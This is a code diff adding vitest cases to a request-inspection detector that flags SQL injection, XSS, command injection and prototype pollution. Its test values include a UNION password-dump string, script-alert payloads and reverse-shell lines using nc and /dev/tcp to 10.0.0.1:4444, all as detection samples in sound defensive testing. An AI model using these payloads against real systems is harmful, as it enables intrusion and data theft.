@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { inspectRequest } from './inspect';
+import { compileInspectOptions, inspectCompiled, inspectRequest } from './inspect';
 
 const SQLI = "1' UNION SELECT password FROM users--";
 
@@ -259,6 +259,18 @@ describe('inspectRequest', () => {
     expect(inspectRequest({ path: '/search?q=shoes&page=2' }).findings).toEqual([]);
   });
 
+  it('inspects a changed query pair beside memoised ones, and counts memoised pairs against maxStrings', () => {
+    expect(inspectRequest({ path: '/search?page=2&q=shoes' }).findings).toEqual([]);
+    expect(inspectRequest({ path: '/search?page=2&q=%3Cscript%3Ealert(1)%3C/script%3E' }).findings).toEqual([
+      expect.objectContaining({ category: 'xss', location: 'query.q' }),
+    ]);
+    const options = compileInspectOptions({ maxStrings: 3 });
+    expect(inspectCompiled({ path: '/?a=1' }, options).truncated).toBe(false);
+    // Four strings, two of them from the memo: still past the bound.
+    expect(inspectCompiled({ path: '/?a=1&b=2' }, options).truncated).toBe(true);
+    expect(inspectCompiled({ path: '/?a=1&b=2' }, options).truncated).toBe(true);
+  });
+
   it('recognises python after a separator and a JS label after javascript:', () => {
     expect(inspectRequest({ body: { host: '127.0.0.1; python3 -c "import os"' } }).findings[0]?.category).toBe(
       'command_injection',
@@ -266,6 +278,20 @@ describe('inspectRequest', () => {
     expect(inspectRequest({ body: { host: '8.8.8.8 && python -V' } }).threat).toBe(true);
     expect(inspectRequest({ body: { link: 'javascript:foo:alert(1)' } }).findings[0]?.category).toBe('xss');
     expect(inspectRequest({ body: { title: 'JavaScript: The Good Parts' } }).findings).toEqual([]);
+  });
+
+  it.each([
+    ['1-@@version', 'sqli'],
+    ['select@@version', 'sqli'],
+    ['1 into 1', 'sqli'],
+    ['nc -e /bin/sh 10.0.0.1 4444', 'command_injection'],
+    ['/dev/tcp/10.0.0.1/4444', 'command_injection'],
+    ['javascript:foo:bar', 'xss'],
+    ['__PROTO__.admin', 'prototype_pollution'],
+  ])('reads %s (letters, digits and [ _.,:@/-] only) with every detector that can match it', (value, category) => {
+    // Such strings take the plain fast path, which once skipped SQL without a space, command,
+    // XSS and upper-case `PROTO`: the detector matched, the request passed.
+    expect(inspectRequest({ body: { value } }).findings[0]?.category).toBe(category);
   });
 
   it('never lets a memoised verdict from a browser-destination key pass the same URL under a fetched-URL key', () => {
